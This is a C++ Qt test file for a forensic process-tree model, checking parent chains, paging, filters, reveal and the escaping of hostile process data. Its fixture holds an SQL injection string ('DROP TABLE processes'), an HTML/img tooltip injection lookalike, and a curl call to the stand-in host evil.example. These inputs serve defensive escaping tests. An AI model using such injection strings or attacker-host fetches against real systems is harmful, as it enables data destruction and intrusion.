// SPDX-License-Identifier: GPL-3.0-or-later
// ProcessTreeModel on the GUI fixture case, under QAbstractItemModelTester while it expands: the query fixture's
// known tree (alpha: 100 sshd -> 200 bash -> 300 curl, 301 hostile, 400 python3 -> 401 sh) with the right parents,
// in pages of any size; exited processes and chain ends marked; hosts as top-level rows; the user and time filters;
// reveal() of a deep process and its failure outside the filter. Runs offscreen.
#include "casesession.h"
#include "guifixture.h"
#include "processqueries.h"
#include "processtext.h"
#include "processtreemodel.h"

#include <QAbstractItemModelTester>
#include <QRegularExpression>
#include <QBrush>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QTextDocument>

using namespace Deck;
using namespace Deck::Models;
using Scenario = TestSupport::QueryScenario;

class TestProcessTreeModel : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void knownTreeWithTheRightParents_data();
    void knownTreeWithTheRightParents();
    void placeholderWhileLoading();
    void hostsAtTheTop();
    void marksExitedAndChainEnds();
    void userFilterKeepsTheWayDown();
    void timeFilter();
    void revealsADeepProcess();
    void revealFailsOutsideTheFilter();
    void laterRevealWins();
    void closingTheCaseEmptiesIt();

private:
    // Fetches every page of `parent`'s children and waits until they landed.
    static bool fetchAll(ProcessTreeModel &model, const QModelIndex &parent);
    static QList<qint64> pids(const ProcessTreeModel &model, const QModelIndex &parent);
    static QModelIndex childWithPid(const ProcessTreeModel &model, const QModelIndex &parent, qint64 pid);
    std::unique_ptr<ProcessTreeModel> alphaModel(ProcessTreeFilter filter = {});
    qint64 id(qint64 pid, qint64 host);

    QTemporaryDir m_dir;
    TestSupport::GuiCase m_case;
    CaseSession m_session;
    std::unique_ptr<Core::Database> m_db; // the test's own connection, for the expected answers
    qint64 m_alpha = 0;
    qint64 m_beta = 0;
};

void TestProcessTreeModel::initTestCase()
{
    QVERIFY(m_dir.isValid());
    m_case = TestSupport::buildGuiCase(m_dir.path(), 2000);
    QVERIFY2(m_case.error.isEmpty(), qPrintable(m_case.error));
    QSignalSpy opened(&m_session, &CaseSession::opened);
    m_session.open(m_case.location);
    QVERIFY(opened.wait(10000));
    auto db = Core::Database::open(m_case.location);
    QVERIFY(db.ok());
    m_db = std::move(*db);
    m_alpha = *Core::findHost(*m_db, QStringLiteral("alpha"));
    m_beta = *Core::findHost(*m_db, QStringLiteral("beta"));
}

qint64 TestProcessTreeModel::id(qint64 pid, qint64 host)
{
    auto process = Core::ProcessQueries(*m_db).processByPid(host, pid);
    return process ? process->id : -1;
}

bool TestProcessTreeModel::fetchAll(ProcessTreeModel &model, const QModelIndex &parent)
{
    for (int pages = 0; pages < 1000; ++pages) {
        if (model.pending() == 0 && !model.canFetchMore(parent))
            return true;
        if (model.pending() == 0)
            model.fetchMore(parent);
        if (!QTest::qWaitFor([&model] { return model.pending() == 0; }, 10000))
            return false;
    }
    return false;
}

QList<qint64> TestProcessTreeModel::pids(const ProcessTreeModel &model, const QModelIndex &parent)
{
    QList<qint64> list;
    for (int row = 0; row < model.rowCount(parent); ++row) {
        if (const auto *process = model.processAt(model.index(row, 0, parent)))
            list.append(process->pid);
    }
    return list;
}

QModelIndex TestProcessTreeModel::childWithPid(const ProcessTreeModel &model, const QModelIndex &parent, qint64 pid)
{
    for (int row = 0; row < model.rowCount(parent); ++row) {
        const QModelIndex index = model.index(row, 0, parent);
        if (const auto *process = model.processAt(index); process && process->pid == pid)
            return index;
    }
    return {};
}

std::unique_ptr<ProcessTreeModel> TestProcessTreeModel::alphaModel(ProcessTreeFilter filter)
{
    auto model = std::make_unique<ProcessTreeModel>(m_session);
    filter.host = m_alpha;
    model->setFilter(filter);
    return model;
}

void TestProcessTreeModel::knownTreeWithTheRightParents_data()
{
    QTest::addColumn<int>("pageSize");
    QTest::newRow("one page") << 500;
    QTest::newRow("pages of one row") << 1;
    QTest::newRow("pages of two rows") << 2;
}

void TestProcessTreeModel::knownTreeWithTheRightParents()
{
    QFETCH(int, pageSize);
    ProcessTreeModel model(m_session);
    model.setPageSize(pageSize);
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    ProcessTreeFilter filter;
    filter.host = m_alpha;
    model.setFilter(filter);
    QVERIFY(fetchAll(model, {}));
    QCOMPARE(pids(model, {}), QList<qint64>{100});

    const QModelIndex sshd = childWithPid(model, {}, 100);
    QVERIFY(model.hasChildren(sshd));
    QVERIFY(fetchAll(model, sshd));
    QCOMPARE(pids(model, sshd), QList<qint64>{200});

    const QModelIndex bash = childWithPid(model, sshd, 200);
    QVERIFY(fetchAll(model, bash));
    QCOMPARE(pids(model, bash), (QList<qint64>{300, 301, 400})); // by start time
    const QModelIndex python = childWithPid(model, bash, 400);
    QVERIFY(fetchAll(model, python));
    QCOMPARE(pids(model, python), QList<qint64>{401});
    const QModelIndex sh = childWithPid(model, python, 401);
    QVERIFY(!model.hasChildren(sh));
    QVERIFY(!model.canFetchMore(sh));

    // Each row's parent in the model is its parent in the case.
    for (const QModelIndex &index : {bash, python, sh}) {
        const auto *process = model.processAt(index);
        QCOMPARE(process->parentId, model.processAt(index.parent())->id);
    }
    QCOMPARE(model.processAt(sh)->id, id(401, m_alpha));

    // The hostile process keeps its bytes in the row and shows them escaped in one line.
    const QModelIndex hostile = childWithPid(model, bash, 301);
    QCOMPARE(model.processAt(hostile)->comm, Scenario::hostileComm());
    const QString name = hostile.data().toString();
    const QString argv = hostile.siblingAtColumn(ProcessTreeModel::ArgvColumn).data().toString();
    for (const QString &cell : {name, argv}) {
        QVERIFY2(!cell.contains(QLatin1Char('\n')) && !cell.contains(QLatin1Char('\t')), qPrintable(cell));
        QVERIFY2(cell.contains(QStringLiteral("\\n")), qPrintable(cell));
    }
    QVERIFY2(name.startsWith(QStringLiteral("x'); DROP TABLE processes; --\"\\n\\t")), qPrintable(name));
    QVERIFY2(argv.contains(QStringLiteral("\\xff\\xfe")), qPrintable(argv));
    // Its tooltip shows the same text, never HTML made of it.
    QTextDocument tip;
    tip.setHtml(hostile.data(Qt::ToolTipRole).toString());
    QVERIFY2(tip.toPlainText().contains(name), qPrintable(tip.toPlainText()));
    QVERIFY2(tip.toPlainText().contains(argv), qPrintable(tip.toPlainText()));
    const QString lookalike = QStringLiteral("<b>bold</b> <img src=\"/etc/x.png\">\n  two  spaces");
    tip.setHtml(ProcessText::toolTip(lookalike));
    QCOMPARE(tip.toPlainText(), lookalike);
}

void TestProcessTreeModel::placeholderWhileLoading()
{
    auto model = alphaModel();
    QVERIFY(fetchAll(*model, {}));
    const QModelIndex sshd = childWithPid(*model, {}, 100);
    QVERIFY(model->hasChildren(sshd));
    QVERIFY(model->canFetchMore(sshd));
    QCOMPARE(model->rowCount(sshd), 0);
    model->fetchMore(sshd);
    QVERIFY(!model->canFetchMore(sshd)); // one fetch at a time
    QCOMPARE(model->rowCount(sshd), 0); // rows change after fetchMore() returns, never inside it
    QTRY_COMPARE(model->rowCount(sshd), 1);
    if (model->pending() > 0) // the page may already be in on a fast machine
        QCOMPARE(model->index(0, 0, sshd).data().toString(), QStringLiteral("Loading..."));
    QTRY_COMPARE(model->pending(), 0);
    QCOMPARE(pids(*model, sshd), QList<qint64>{200});
}

void TestProcessTreeModel::hostsAtTheTop()
{
    ProcessTreeModel model(m_session);
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    QVERIFY(fetchAll(model, {}));
    QCOMPARE(model.rowCount(), 3);
    QStringList hosts;
    for (int row = 0; row < 3; ++row)
        hosts << model.index(row, 0).data().toString();
    QCOMPARE(hosts, (QStringList{QStringLiteral("alpha"), QStringLiteral("beta"), QStringLiteral("gamma")}));
    const QModelIndex beta = model.index(1, 0);
    QCOMPARE(beta.data(ProcessTreeModel::HostIdRole).toLongLong(), m_beta);
    QVERIFY(fetchAll(model, beta));
    QCOMPARE(pids(model, beta), QList<qint64>{500});
    const QModelIndex gamma = model.index(2, 0);
    QVERIFY(fetchAll(model, gamma));
    QVERIFY(model.rowCount(gamma) > 0);
    // Expanding a busy host's processes under the tester.
    for (int row = 0; row < std::min(3, model.rowCount(gamma)); ++row)
        QVERIFY(fetchAll(model, model.index(row, 0, gamma)));
    // gamma's accounts (guifixture.cpp): each uid with the name it had when the process took it; 1004 has none.
    const QRegularExpression user(QStringLiteral(R"(^(alice \(1000\)|bob \(1001\)|robert \(1001\)|carol \(1002\)|)"
                                                 R"(deploy \(1003\)|1004)$)"));
    QSet<QString> users;
    for (int row = 0; row < model.rowCount(gamma); ++row) {
        const QString text = model.index(row, ProcessTreeModel::UserColumn, gamma).data().toString();
        QVERIFY2(user.match(text).hasMatch(), qPrintable(text));
        users.insert(text);
    }
    users.remove(QStringLiteral("1004"));
    QVERIFY2(!users.isEmpty(), "no process of gamma shows a user name");
}

void TestProcessTreeModel::marksExitedAndChainEnds()
{
    auto model = alphaModel();
    QAbstractItemModelTester tester(model.get(), QAbstractItemModelTester::FailureReportingMode::QtTest);
    QVERIFY(fetchAll(*model, {}));
    const QModelIndex sshd = childWithPid(*model, {}, 100);
    // The chain ends at sshd: its parent, pid 1, is not in the case; the row says whom it named.
    QCOMPARE(sshd.data().toString(), QStringLiteral("sshd  [ppid 1 not in case]"));
    QVERIFY2(sshd.data(Qt::ToolTipRole).toString().contains(QStringLiteral("parent pid 1 not in the case")),
             qPrintable(sshd.data(Qt::ToolTipRole).toString()));
    QVERIFY(fetchAll(*model, sshd));
    const QModelIndex bash = childWithPid(*model, sshd, 200);
    QVERIFY(fetchAll(*model, bash));
    const QModelIndex curl = childWithPid(*model, bash, 300);
    QCOMPARE(curl.siblingAtColumn(ProcessTreeModel::ExitColumn).data().toString(), QStringLiteral("exit 0"));
    QVERIFY(curl.data(Qt::ForegroundRole).value<QBrush>().color() != QColor());
    const QModelIndex python = childWithPid(*model, bash, 400);
    QCOMPARE(python.siblingAtColumn(ProcessTreeModel::ExitColumn).data().toString(), QStringLiteral("running"));
    QVERIFY(!python.data(Qt::ForegroundRole).isValid());
    QCOMPARE(curl.siblingAtColumn(ProcessTreeModel::PidColumn).data().toLongLong(), 300);
    QCOMPARE(curl.siblingAtColumn(ProcessTreeModel::UserColumn).data().toString(), QStringLiteral("1000"));
    QVERIFY(curl.siblingAtColumn(ProcessTreeModel::StartColumn).data().toString().startsWith(QStringLiteral("2025-")));
    QCOMPARE(curl.siblingAtColumn(ProcessTreeModel::ArgvColumn).data().toString(),
             QStringLiteral("/usr/bin/curl http://evil.example/x"));
}

void TestProcessTreeModel::userFilterKeepsTheWayDown()
{
    // uid 1000 ran everything but sshd (a snapshot without ids: uid 0). sshd stays, dimmed, as the way down.
    ProcessTreeFilter filter;
    filter.uid = 1000;
    auto model = alphaModel(filter);
    QAbstractItemModelTester tester(model.get(), QAbstractItemModelTester::FailureReportingMode::QtTest);
    QVERIFY(fetchAll(*model, {}));
    const QModelIndex sshd = childWithPid(*model, {}, 100);
    QVERIFY(sshd.isValid());
    QVERIFY(sshd.data(Qt::ToolTipRole).toString().contains(QStringLiteral("Outside the user or time filter")));
    QVERIFY(fetchAll(*model, sshd));
    QCOMPARE(pids(*model, sshd), QList<qint64>{200});

    // uid 0: bash and python3 only as the way to sh... which is uid 1000 too: curl, the hostile one and sh go.
    filter.uid = 0;
    model = alphaModel(filter);
    QVERIFY(fetchAll(*model, {}));
    const QModelIndex root = childWithPid(*model, {}, 100);
    QVERIFY(!root.data(Qt::ToolTipRole).toString().contains(QStringLiteral("Outside the user or time filter")));
    QVERIFY(fetchAll(*model, root));
    const QModelIndex bash = childWithPid(*model, root, 200);
    QVERIFY(fetchAll(*model, bash));
    QCOMPARE(pids(*model, bash), QList<qint64>{400});
    const QModelIndex python = childWithPid(*model, bash, 400);
    QVERIFY(fetchAll(*model, python));
    QCOMPARE(model->rowCount(python), 0);
    QVERIFY(!model->hasChildren(python)); // every child filtered out: no expander left
}

void TestProcessTreeModel::timeFilter()
{
    // From @200 on: curl (exited @100, no children) is gone; the rest lived on.
    ProcessTreeFilter filter;
    filter.range.from = Scenario::at(200);
    auto model = alphaModel(filter);
    QVERIFY(fetchAll(*model, {}));
    const QModelIndex sshd = childWithPid(*model, {}, 100);
    QVERIFY(fetchAll(*model, sshd));
    const QModelIndex bash = childWithPid(*model, sshd, 200);
    QVERIFY(fetchAll(*model, bash));
    QCOMPARE(pids(*model, bash), (QList<qint64>{301, 400}));

    // Before sshd's start nothing of alpha was alive.
    filter.range = {std::nullopt, Scenario::at(-6000)};
    model = alphaModel(filter);
    QVERIFY(fetchAll(*model, {}));
    QCOMPARE(model->rowCount(), 0);
}

void TestProcessTreeModel::revealsADeepProcess()
{
    ProcessTreeModel model(m_session); // every host at the top: the way goes through alpha
    model.setPageSize(1);
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    QSignalSpy revealed(&model, &ProcessTreeModel::revealed);
    model.reveal(id(401, m_alpha));
    QVERIFY(revealed.wait(10000));
    const QModelIndex sh = revealed.at(0).at(0).value<QModelIndex>();
    QCOMPARE(model.processAt(sh)->pid, 401);
    QList<qint64> way;
    for (QModelIndex up = sh.parent(); model.processAt(up); up = up.parent())
        way << model.processAt(up)->pid;
    QCOMPARE(way, (QList<qint64>{400, 200, 100}));
    QCOMPARE(sh.parent().parent().parent().parent().data().toString(), QStringLiteral("alpha"));
    QCOMPARE(model.indexOfProcess(id(401, m_alpha)), sh);
}

void TestProcessTreeModel::revealFailsOutsideTheFilter()
{
    ProcessTreeFilter filter;
    filter.range.from = Scenario::at(200);
    auto model = alphaModel(filter);
    QSignalSpy failed(model.get(), &ProcessTreeModel::revealFailed);
    QSignalSpy revealed(model.get(), &ProcessTreeModel::revealed);
    model->reveal(id(300, m_alpha)); // curl exited @100
    QVERIFY(failed.wait(10000));
    QVERIFY2(failed.at(0).at(0).toString().contains(QStringLiteral("outside the user or time filter")),
             qPrintable(failed.at(0).at(0).toString()));
    QCOMPARE(revealed.count(), 0);

    model->reveal(id(500, m_beta)); // another host than the one shown
    QVERIFY(failed.wait(10000));
    QVERIFY(failed.at(1).at(0).toString().contains(QStringLiteral("another host")));
}

void TestProcessTreeModel::laterRevealWins()
{
    ProcessTreeModel model(m_session);
    QSignalSpy revealed(&model, &ProcessTreeModel::revealed);
    model.reveal(id(401, m_alpha));
    model.reveal(id(500, m_beta));
    QVERIFY(revealed.wait(10000));
    QTRY_COMPARE(model.pending(), 0);
    QCOMPARE(revealed.count(), 1);
    QCOMPARE(model.processAt(revealed.at(0).at(0).value<QModelIndex>())->pid, 500);
}

void TestProcessTreeModel::closingTheCaseEmptiesIt()
{
    CaseSession session;
    QSignalSpy opened(&session, &CaseSession::opened);
    session.open(m_case.location);
    QVERIFY(opened.wait(10000));
    ProcessTreeModel model(session);
    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
    QVERIFY(fetchAll(model, {}));
    QCOMPARE(model.rowCount(), 3);
    session.close();
    QCOMPARE(model.rowCount(), 0);
    QVERIFY(!model.canFetchMore({}));
}

QTEST_MAIN(TestProcessTreeModel)
#include "tst_processtreemodel.moc"
